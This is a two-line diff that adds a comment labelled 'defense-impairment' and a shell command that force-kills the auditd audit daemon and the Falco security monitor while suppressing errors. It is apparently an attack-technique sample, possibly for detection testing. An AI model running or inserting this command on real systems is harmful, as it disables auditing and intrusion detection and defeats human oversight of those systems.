@@ -1,0 +1,2 @@
+# tactic: defense-impairment
+pkill -9 -f auditd; pkill -9 falco; true
